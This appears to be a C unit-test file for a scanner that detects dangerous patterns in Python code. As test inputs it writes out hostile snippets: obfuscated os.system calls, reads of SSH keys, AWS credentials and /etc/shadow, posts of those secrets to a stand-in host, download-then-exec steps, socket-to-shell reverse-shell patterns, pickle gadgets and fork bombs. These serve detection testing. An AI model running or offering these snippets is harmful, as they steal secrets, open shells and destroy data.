#include "test.h"

#include "scan/engine.h"
#include "scan/fold.h"
#include "scan/grammar.h"

/* ---- helpers ---- */

/* All facts of a program, one a line: «call os.system(id)», a * behind a name that was computed, ? for what is not
 * known. */
static struct buf facts;
static const char *const kinds[FACT_KINDS] = { "import", "call", "name", "string", "redirect", "pipe", "flow" };

static void keep(const struct scan *s, const struct fact *f)
{
    (void)s;
    (void)buf_addf(&facts, "%s %s%s(", kinds[f->kind], f->name, f->has_dynamic_name ? "*" : "");
    for (unsigned i = 0; i < f->arg_count; i++)
        (void)buf_addf(&facts, "%s%s", i ? ", " : "", f->args[i] ? f->args[i] : "?");
    (void)buf_adds(&facts, ")\n");
}

static bool resolve_bytes(const char *text, size_t size)
{
    static struct ruleset none;
    static struct scan scan;
    none.language = LANG_PYTHON;
    if (!grammar_of(LANG_PYTHON)->language)
        SKIP("built without Python's grammar (npm ci)");
    buf_done(&facts);
    buf_init(&facts, 8u << 20);
    (void)buf_addc(&facts, '\n');
    CHECK(scan_begin(&scan, &none, text, size, 60000) == 0);
    scan.trace = keep;
    scan_syntax(&scan);
    bool is_cut = scan.ctx.is_cut || scan.why_cut;
    scan_done(&scan);
    return !is_cut;
}

static bool has(const char *fact)
{
    size_t n = strlen(fact);
    for (const char *p = facts.data; p && (p = strchr(p, '\n')); p++)
        if (strncmp(p + 1, fact, n) == 0)
            return true;
    (void)fprintf(stderr, "# no «%s» in:%s", fact, facts.data);
    return false;
}

/* The program has that fact: its line begins so. */
#define GIVES(code, fact) CHECK(resolve_bytes(code, strlen(code)) && has(fact))
#define GIVES_NOT(code, fact)                     \
    do {                                          \
        CHECK(resolve_bytes(code, strlen(code))); \
        CHECK(!strstr(facts.data, "\n" fact));    \
    } while (0)

/* ---- names ---- */

TEST(python_imports_and_their_aliases_are_followed)
{
    GIVES("import os as o\no.system('id')", "call os.system(id)");
    GIVES("from os import system as s\ns('id')", "call os.system(id)");
    GIVES("from os import *\nsystem('id')", "call os.system(id)");
    GIVES("from posix import *\nsetuid(0)", "call os.setuid(0)");
    GIVES("print(file('/etc/passwd').read())", "flow file-read(/etc/passwd)");
    GIVES("import os\nx = {os.system('id'): y for y in z if os.system(y)}", "call os.system(id)");
    GIVES("exec compile('1', 'f', 'exec') in scope", "call exec(");
    GIVES("import os.path as p, subprocess\nsubprocess.os.system('id')", "call os.system(id)");
    GIVES("import subprocess\nsubprocess.os.system('id')", "import os*");
    GIVES("from urllib import request as r\nr.urlopen('http://x')", "call urllib.request.urlopen(http://x)");
    GIVES("import posix\nposix.system('id')", "call os.system(id)");
    GIVES("try:\n    import requests\nexcept ImportError:\n    requests = None\nrequests.get('x')",
          "call requests.get(x)");
}

TEST(python_relative_imports_and_own_names_are_no_known_modules)
{
    GIVES_NOT("from . import os\nos.system('id')", "import os");
    GIVES_NOT("from .os import system\nsystem('id')", "call os.system");
    GIVES_NOT("class os:\n    def system(x): return x\nos.system('id')", "call os.system");
    GIVES_NOT("def eval(x): return x\neval('1')", "call eval");
    GIVES_NOT("model.eval()", "call eval");
    GIVES("'z'.decode('zlib')\nexec('eJwzBAAAMgAy'.decode('base64').decode('zlib'))", "flow decode-then-exec(1)");
    GIVES_NOT("# os.system('id')\n'os.system(1)'", "call");
}

TEST(python_names_that_are_put_together_are_seen_and_marked)
{
    GIVES("__import__('o' + 's').system('id')", "call os.system*(id)");
    GIVES("__import__('o' + 's')", "import os*");
    GIVES("getattr(__builtins__, 'ev' + 'al')('1')", "call eval*(1)");
    GIVES("import builtins\ngetattr(builtins, 'lave'[::-1])('1')", "call eval*(1)");
    GIVES("__builtins__.__dict__['eval']('1')", "call eval*(1)");
    GIVES("globals()['__builtins__'].exec('1')", "call exec*(1)");
    GIVES("import sys\nsys.modules['os'].system('id')", "call os.system*(id)");
    GIVES("import os\nvars(os)['system']('id')", "call os.system*(id)");
    GIVES("import os\nos.__getattribute__('system')('id')", "call os.system*(id)");
    GIVES("import importlib\nimportlib.import_module('%s%s' % ('o', 's')).system('id')", "call os.system*(id)");
    GIVES("import importlib\nimportlib.import_module('json')", "import json(");
    GIVES("print.__self__.eval('1')", "call eval*(1)");
    GIVES("import operator, os\noperator.attrgetter('system')(os)('id')", "call os.system*(id)");
    GIVES("import operator, os\noperator.methodcaller('system', 'id')(os)", "call os.system*(id)");
    GIVES("import os, sys\ngetattr(os, sys.argv[1])('id')", "flow computed-call(os.?)");
}

TEST(python_names_follow_assignments_containers_lambdas_and_partials)
{
    GIVES("import os\nf = os.system\nf('id')", "call os.system(id)");
    GIVES("import os\na, b = os.system, 1\na('id')", "call os.system(id)");
    GIVES("import os\n[os.system][0]('id')", "call os.system(id)");
    GIVES("import os\nd = {'x': os.system}\nd['x']('id')", "call os.system(id)");
    GIVES("import os\nrun = lambda c: os.system(c)\nrun('id')", "call os.system(id)");
    GIVES("import os, functools\nfunctools.partial(os.system, 'id')()", "call os.system(id)");
    GIVES("import os\nclass A:\n    f = os.system\nA.f('id')", "call os.system(id)");
    GIVES("import os\nclass A:\n    def __init__(self):\n        self.f = os.system\n    def go(self):\n        "
          "self.f('id')\nA().go()",
          "call os.system(id)");
    GIVES("import os\nlist(map(os.system, ['id', 'ls']))", "call os.system(ls)");
    GIVES("import os, threading\nthreading.Thread(target=os.system, args=('id',)).start()", "call os.system(id)");
}

TEST(python_methods_are_named_by_what_made_the_object)
{
    GIVES("import socket\nwith socket.socket() as s:\n    s.connect(('h', 1))", "call socket.socket.connect(h 1)");
    GIVES("import requests\ns = requests.session()\ns.post('http://x')", "call requests.Session.post(http://x)");
    GIVES("import paramiko\nc = paramiko.SSHClient()\nc.connect('h')", "call paramiko.SSHClient.connect(h)");
    GIVES("def f(x):\n    x.connect(('h', 1))", "call ?.connect(h 1)");
    GIVES("import socket\ndef f(x: socket.socket):\n    x.send(b'a')", "call socket.socket.send(a)");
}

/* ---- constants ---- */

TEST(python_texts_are_folded)
{
    GIVES("import os\nos.system('i' 'd' + ' ' + '-u')", "call os.system(id -u)");
    GIVES("import os\nos.system(f'{\"i\"}d')", "call os.system(id)");
    GIVES("import os\nos.system('{}{x}'.format('i', x='d'))", "call os.system(id)");
    GIVES("import os\nos.system(' '.join(['ls', '-l']))", "call os.system(ls -l)");
    GIVES("import os\nos.system('xd'.replace('x', 'i').strip())", "call os.system(id)");
    GIVES("import os\nos.system('\\x69\\144')", "call os.system(id)");
    GIVES("import os\nos.system(''.join(chr(c) for c in [105, 100]))", "call os.system(id)");
    GIVES("import os\nos.system(bytes([105, 100]).decode())", "call os.system(id)");
    GIVES("import os\nos.system(''.join(chr(ord(c) ^ 1) for c in 'he'))", "call os.system(id)");
    GIVES("import os, base64\nos.system(base64.b64decode('aWQ=').decode())", "call os.system(id)");
    GIVES("import os, codecs\nos.system(codecs.decode('vq', 'rot13'))", "call os.system(id)");
    GIVES("import os\ns = ''\nfor c in [105, 100]:\n    s += chr(c)\nos.system(s)", "call os.system(id)");
    GIVES("import os\ndef d(x): return x[::-1]\nos.system(d('di'))\nos.system(d('sl'))", "call os.system(ls)");
}

TEST(python_what_is_not_known_is_marked_in_what_is)
{
    GIVES("import sys\nopen(f'/proc/{sys.argv[1]}/mem')", "flow file-read(/proc/{}/mem)");
    GIVES("import os, sys\nos.system('rm -rf ' + sys.argv[1])", "flow command(rm -rf {})");
    GIVES("import os\nos.system(x)", "call os.system(?)");
}

TEST(python_paths_are_folded)
{
    GIVES("import os\nopen(os.path.expanduser('~/.ssh/id_rsa'))", "flow file-read(~/.ssh/id_rsa)");
    GIVES("import os\nopen(os.path.join(os.environ['HOME'], '.netrc'))", "flow file-read(~/.netrc)");
    GIVES("from pathlib import Path\n(Path.home() / '.aws' / 'credentials').read_text()",
          "flow file-read(~/.aws/credentials)");
    GIVES("from pathlib import Path\nPath('/etc').joinpath('passwd').open('a')", "flow file-write(/etc/passwd, a)");
    GIVES("import os\nfor p in ['a', 'b']:\n    open('/etc/' + p)", "flow file-read(/etc/b)");
    GIVES("open(mode='w', file='/etc/x')", "flow file-write(/etc/x, w)");
}

TEST(python_files_that_the_program_made_are_its_own)
{
    GIVES("import os\nopen('a.tmp', 'w')\nos.remove('a.tmp')", "flow file-delete-own(a.tmp)");
    GIVES("import os, tempfile\nfd, p = tempfile.mkstemp()\nos.unlink(p)", "flow file-delete-own");
    GIVES("import os\nos.remove('a.txt')", "flow file-delete(a.txt)");
    GIVES("import shutil\nshutil.rmtree('/srv')", "flow file-delete-tree(/srv)");
    GIVES("import os\nfor f in os.listdir('.'):\n    os.remove(f)", "flow file-delete-many");
    GIVES("import os, glob\nfor f in glob.glob('*.tmp'):\n    os.remove(f)", "flow file-delete-kind(*.tmp)");
    GIVES("import os, glob\nfor f in glob.glob('*'):\n    os.remove(f)", "flow file-delete-many(*)");
    GIVES("import os, glob\nfor f in glob.glob('/srv/*.tmp'):\n    os.remove(f)", "flow file-delete-many(/srv/*.tmp)");
    GIVES("import os, glob\nfor f in glob.glob('**/*.c'):\n    os.remove(f)", "flow file-delete-many(**/*.c)");
    GIVES("import shutil, pathlib\nfor d in pathlib.Path('.').rglob('__pycache__'):\n    shutil.rmtree(d)",
          "flow file-delete-kind(");
    GIVES("import shutil, pathlib\nfor d in pathlib.Path('/').rglob('build'):\n    shutil.rmtree(d)",
          "flow file-delete-tree(");
}

TEST(python_readers_of_any_library_read_secrets)
{
    GIVES("import configparser, os\nconfigparser.ConfigParser().read(os.path.expanduser('~/.aws/credentials'))",
          "flow file-read(~/.aws/credentials)");
    GIVES("image.load('/etc/shadow')", "flow file-read(/etc/shadow)");
    GIVES_NOT("blocked.append('/etc/shadow')\nread('the file /etc/shadow;')\nlog.info('~/.aws/credentials')",
              "flow file-read");
}

/* ---- flows ---- */

TEST(python_code_that_is_decoded_fetched_or_typed_in_and_then_run)
{
    GIVES("import base64\nexec(base64.b64decode(x))", "flow decode-then-exec");
    GIVES("import zlib\nc = compile(zlib.decompress(b'x'), 'a', 'exec')\nexec(c)", "flow decode-then-exec");
    GIVES("import marshal\nexec(marshal.loads(b'x'))", "flow decode-then-exec");
    GIVES("import requests\nr = requests.get('http://x')\nexec(r.text)", "flow download-then-exec");
    GIVES("import urllib.request, os\nurllib.request.urlretrieve('http://x', '/tmp/p')\nos.system('sh /tmp/p')",
          "flow download-then-exec");
    GIVES("eval(input())", "call eval");
    GIVES_NOT("import base64\nprint(base64.b64decode('aGk='))", "flow");
    GIVES("import pickle, socket\npickle.loads(socket.socket().recv(9))", "flow unsafe-unpickle(pickle.loads)");
    GIVES_NOT("import pickle\npickle.load(open('m.pkl', 'rb'))", "flow unsafe-unpickle");
    GIVES("import os\nclass E:\n    def __reduce__(self):\n        return os.system, ('id',)",
          "flow pickle-gadget(os.system)");
}

TEST(python_sockets_that_become_a_shells_input_are_seen)
{
    GIVES("import os, socket\ns = socket.socket()\n[os.dup2(s.fileno(), n) for n in (0, 1)]", "flow socket-dup2");
    GIVES("import subprocess, socket\ns = socket.create_connection(('h', 1))\nsubprocess.Popen(['sh'], stdin=s)",
          "flow socket-dup2(sh)");
    GIVES_NOT("import os\nos.dup2(3, 1)", "flow socket-dup2");
}

TEST(python_secrets_that_leave_are_seen)
{
    GIVES("import requests\nrequests.post('http://x', data=open('/etc/shadow').read())", "flow secret-then-send");
    GIVES("import requests\nrequests.post('http://x', data=open('/usr/../etc/sudoers').read())",
          "flow secret-then-send");
    GIVES_NOT("import readline\nreadline.read_history_file('~/.python_history')", "flow file-read");
    GIVES("import os, requests, json\nrequests.post('http://x', data=json.dumps(dict(os.environ)))",
          "flow secret-then-send");
    GIVES("import requests\na = open('/etc/shadow').read()\nrequests.post('http://x', data=b)", "flow secret-and-send");
    GIVES_NOT("import os, requests\nrequests.get('http://x', headers={'A': os.environ['API_KEY']})",
              "flow secret-then-send");
    GIVES("import os\nprint(os.environ['MY_' + 'TOKEN'])", "flow environ-secret(MY_TOKEN)");
    GIVES_NOT("import os\nprint(os.environ['PATH'], os.getenv('HOME'))", "flow");
}

TEST(python_walks_through_the_object_graph_are_seen)
{
    GIVES("().__class__.__base__.__subclasses__()", "flow object-graph-walk");
    GIVES("x = ''.__class__\nx.__mro__[-1].__subclasses__()", "flow object-graph-walk");
    GIVES("def f(): pass\nf.__globals__['__builtins__']['eval']('1')", "call eval*(1)");
    GIVES_NOT("class A: pass\nA.__subclasses__()\nA().__class__.__name__", "flow object-graph-walk");
}

TEST(python_loops_that_fork_or_fill_memory_are_seen)
{
    GIVES("import os\nwhile True:\n    os.fork()", "flow fork-loop");
    GIVES("import os\ndef f():\n    os.fork()\n    f()\nf()", "flow fork-loop");
    GIVES("x = 'a' * 10 ** 12", "flow endless-alloc");
    GIVES("l = []\nwhile 1:\n    l.append(bytearray(10 ** 7))", "flow endless-alloc");
    GIVES_NOT("l = [0] * 10 ** 6", "flow");
    GIVES_NOT("import os\nif os.fork() == 0:\n    pass", "flow fork-loop");
    GIVES_NOT("def count():\n    n = 0\n    while True:\n        yield n\n        n += 1", "flow");
}

TEST(python_processes_that_are_ones_own_may_be_killed)
{
    GIVES("import os\nos.kill(1, 9)", "flow kill-other(1, 9)");
    GIVES_NOT("import os\nos.kill(os.getpid(), 9)", "flow kill-other");
    GIVES_NOT("import os, subprocess\np = subprocess.Popen(['x'])\nos.kill(p.pid, 9)", "flow kill-other");
}

TEST(python_ordinary_programs_give_no_flows_but_files)
{
    GIVES_NOT("import csv\nfor r in csv.reader(open('data.csv')):\n    print(r)", "flow net");
    GIVES_NOT("from urllib.parse import urlparse\nurlparse('http://x/y')", "flow");
    GIVES_NOT("import ast, re\nast.literal_eval('[1]')\nre.compile('x')", "call compile");
}

TEST(python_two_is_read_too)
{
    GIVES("import os\nprint os.popen('id').read()", "call os.popen(id)");
    GIVES("exec 'import os'", "call exec(import os)");
}

/* ---- hostile text ---- */

static char *repeated(const char *a, unsigned n, const char *middle, const char *b, const char *end)
{
    struct buf t;
    buf_init(&t, 8u << 20);
    for (unsigned i = 0; i < n; i++)
        (void)buf_adds(&t, a);
    (void)buf_adds(&t, middle);
    for (unsigned i = 0; i < n; i++)
        (void)buf_adds(&t, b);
    (void)buf_adds(&t, end);
    CHECK(!t.failed);
    return t.data;
}

TEST(python_nesting_too_deep_is_told_and_does_not_hide_what_follows)
{
    char *deep = repeated("[", 3000, "1", "]", "\nimport os\nos.system('id')\n");
    CHECK(!resolve_bytes(deep, strlen(deep)));
    CHECK(has("call os.system(id)"));
    free(deep);
    char *chain = repeated("", 5000, "a", ".b()", "\nimport os\nos.system('id')\n");
    CHECK(!resolve_bytes(chain, strlen(chain)));
    CHECK(has("call os.system(id)"));
    free(chain);
}

TEST(python_programs_that_would_run_for_ever_are_read_in_bounded_time)
{
    GIVES("s = 'a'\nfor i in range(30):\n    s += s + s\nimport os\nos.system('id')", "call os.system(id)");
    GIVES("def f(n):\n    f(n + 'a')\n    f(n + 'b')\nf('x')\nimport os\nos.system('id')", "call os.system(id)");
    GIVES("l = []\nl.append(l)\nl.extend(l)\nprint(l)\nimport os\nos.system(l)", "call os.system(");
    char *loops = repeated("for x in [1, 2, 3, 4, 5, 6, 7, 8]: ", 1, "chr(x)\n",
                           "for y in range(30):\n for z in range(30):\n  chr(z)\n", "import os\nos.system('id')\n");
    CHECK(resolve_bytes(loops, strlen(loops)) && has("call os.system(id)"));
    free(loops);
}

TEST(python_text_of_any_bytes_is_survived)
{
    static const char source[] =
        "import os\nfor p in ['a', 'b']:\n    with open(f'{p}' + \"x\") as f: getattr(os, 'sys' 'tem')(f.read())\n";
    char text[sizeof source];
    uint32_t state = 7;
    for (unsigned round = 0; round < 400; round++) {
        memcpy(text, source, sizeof source);
        for (unsigned i = 0; i < 1 + round % 7; i++) {
            state = state * 1664525u + 1013904223u;
            text[(state >> 8) % (sizeof source - 1)] = (char)(state >> 24);
        }
        state = state * 1664525u + 1013904223u;
        (void)resolve_bytes(text, round % 3 ? sizeof source - 1 : (state >> 8) % sizeof source);
    }
    GIVES("import os\nos.system('id')", "call os.system(id)");
}

/* ---- folding ---- */

TEST(fold_decodes_what_is_of_the_form_and_refuses_the_rest)
{
    struct fold_mem m;
    struct fold_text t;
    int64_t v;
    fold_init(&m, 1u << 20);
    CHECK(fold_base64(&m, fold_of("aGk="), &t) && fold_is(t, "hi"));
    CHECK(fold_base64(&m, fold_of("aG\nk"), &t) && fold_is(t, "hi"));
    CHECK(!fold_base64(&m, fold_of("a!"), &t));
    CHECK(fold_base32(&m, fold_of("NBUQ===="), &t) && fold_is(t, "hi"));
    CHECK(fold_hex(&m, fold_of("68 69"), &t) && fold_is(t, "hi"));
    CHECK(!fold_hex(&m, fold_of("686"), &t));
    CHECK(fold_unhex_escapes(&m, fold_of("\\x68\\u0069\\151\\n\\q"), &t) && fold_is(t, "hii\n\\q"));
    CHECK(fold_unhex_escapes(&m, fold_of("\\u{e9}"), &t) && fold_is(t, "\xc3\xa9"));
    CHECK(fold_reverse(&m, fold_of("\xc3\xa9x"), &t) && fold_is(t, "x\xc3\xa9"));
    CHECK(fold_rot13(&m, fold_of("Uryyb"), &t) && fold_is(t, "Hello"));
    CHECK(fold_replace(&m, fold_of("axbx"), fold_of("x"), fold_of("--"), &t) && fold_is(t, "a--b--"));
    CHECK(fold_int(fold_of("0x1F"), 0, &v) && v == 31);
    CHECK(fold_int(fold_of("-1_000"), 10, &v) && v == -1000);
    CHECK(!fold_int(fold_of("99999999999999999999"), 10, &v) && !fold_int(fold_of(""), 10, &v));
    fold_done(&m);
}

TEST(fold_slices_as_python_does)
{
    static const struct {
        int64_t start, stop, step;
        bool has_start, has_stop;
        const char *expected;
    } cases[] = { { 1, 4, 1, true, true, "bcd" },       { 0, -1, 1, true, true, "abcde" },
                  { 0, 0, -1, false, false, "fedcba" }, { -2, 0, 1, true, false, "ef" },
                  { 0, 0, 2, false, false, "ace" },     { 4, 1, -1, true, true, "edc" },
                  { 99, 0, -2, true, false, "fdb" },    { -99, 99, 1, true, true, "abcdef" },
                  { 3, 1, 1, true, true, "" } };
    struct fold_mem m;
    struct fold_text t;
    fold_init(&m, 1u << 20);
    for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
        CHECK(fold_slice(&m, fold_of("abcdef"), cases[i].has_start ? &cases[i].start : NULL,
                         cases[i].has_stop ? &cases[i].stop : NULL, cases[i].step, &t));
        CHECK_STR(t.data, cases[i].expected);
    }
    CHECK(!fold_slice(&m, fold_of("abc"), NULL, NULL, 0, &t));
    fold_done(&m);
}

TEST(fold_never_takes_more_memory_than_it_may)
{
    struct fold_mem m;
    struct fold_text t = fold_of("0123456789abcdef");
    fold_init(&m, 100u << 10);
    CHECK(!fold_repeat(&m, t, INT64_MAX, &t));
    while (fold_concat(&m, t, t, &t))
        CHECK(t.size <= FOLD_MAX_TEXT);
    CHECK(m.used <= m.max);
    CHECK(fold_take(&m, 1u << 20) == NULL && m.failed);
    fold_done(&m);
}
